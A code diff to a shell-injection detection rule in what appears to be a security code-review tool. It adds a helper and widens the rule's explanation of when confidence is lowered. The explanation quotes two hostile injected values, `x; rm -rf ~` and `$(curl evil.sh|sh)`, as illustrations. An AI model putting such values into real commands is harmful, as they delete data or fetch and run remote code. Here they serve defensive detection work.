@@ -23,9 +23,9 @@ from secreview.analysis.rules._support.built_strings import (
     fixed_text,
     is_fixed,
     is_number_conversion,
-    looks_internal,
     string_pieces,
 )
+from secreview.analysis.rules._support.caller_arguments import filled_by_program
 from secreview.analysis.rules._support.library_calls import library_call_name
 from secreview.analysis.rules._support.local_bindings import sequence_elements, single_value
 from secreview.analysis.rules._support.quoting import code, name_values
@@ -162,6 +162,10 @@ def _unquoted_values(context: ModuleContext, command: ast.expr) -> list[Piece]:
     ]
 
 
+def _unquoted_nodes(context: ModuleContext, command: ast.expr) -> list[ast.expr]:
+    return [p.node for p in _unquoted_values(context, command) if p.node is not None]
+
+
 def _truthy_constant(context: ModuleContext, expr: ast.expr | None) -> bool:
     value = context.constant_value(expr)
     return isinstance(value, bool | int | str) and bool(value)
@@ -232,7 +236,7 @@ def _command_hit(
     if not values:
         return
     nodes = [p.node for p in values if p.node is not None]
-    internal = all(looks_internal(n) for n in nodes)
+    internal = all(filled_by_program(context, n, _unquoted_nodes) for n in nodes)
     if len(nodes) == 1 and nodes[0] is command:
         what = f"{runner} runs `{code(context, command)}` as a whole shell command line"
     else:
@@ -268,7 +272,10 @@ def _command_hit(
     why_bad="The shell parses the whole string: a value such as `x; rm -rf ~` or "
     "`$(curl evil.sh|sh)` spliced into `ping -c 1 {host}` runs a second command with the "
     "application's privileges. Values that look internal often carry user data a few calls "
-    "away, so confidence is lowered, not the finding dropped, for constants and `self` fields.",
+    "away, so confidence is lowered, not the finding dropped, for constants, `self` fields, "
+    "paths beside the module's own file, and a helper's parameter that every call of the "
+    "helper in its module fills with such values (`def popen(cmd)` called only as "
+    "`popen(self.apache_path + ' -f ' + conf)`).",
     example='import subprocess\nsubprocess.run(f"ping -c 1 {host}", shell=True)',
     use_instead='import subprocess\nsubprocess.run(["ping", "-c", "1", host])  # no shell',
     references=(
